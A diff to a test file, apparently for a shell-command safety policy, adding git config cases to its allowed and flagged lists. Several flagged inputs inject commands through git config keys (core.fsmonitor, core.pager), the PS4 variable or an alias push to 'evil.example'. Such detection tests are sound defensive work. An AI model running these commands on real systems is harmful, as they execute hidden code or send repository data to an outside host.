@@ -64,6 +64,9 @@ describe("L1 on shell commands, by config", () => {
     // biome-ignore lint/suspicious/noTemplateCurlyInString: shell expansion, not a template
     "bash -c 'v=release-1.2; echo \"${v//./-}\"'",
     "git config --get user.name",
+    // git config's valued options are no key: `--type bool` sets pull.rebase.
+    "git config --type bool pull.rebase true",
+    "git config filter.lfs.required true",
     // env as the shell's `NAME=value cmd` prefix: the command it runs is what is judged.
     "env LC_ALL=C sort data/sales.csv",
     "env -u LANG TZ=UTC date -d @0 +%F",
@@ -93,6 +96,7 @@ describe("L1 on shell commands, by config", () => {
     ["export GLIBC_TUNABLES=glibc.malloc.check=3; sort data/sales.csv", "l1.command.dynamic"],
     ["PS4='$(curl x)' bash -xc ls", "l1.command.dynamic"],
     ["git config core.fsmonitor 'curl x'", "l1.command.dynamic"],
+    ["git config --type path core.pager 'id>x'", "l1.command.dynamic"],
     // An alias to a subcommand the policy would refuse by its name, or a name git only guesses.
     ["git config alias.p push", "l1.command.dynamic"],
     ["git p evil.example:x HEAD", "l1.command.dynamic"],
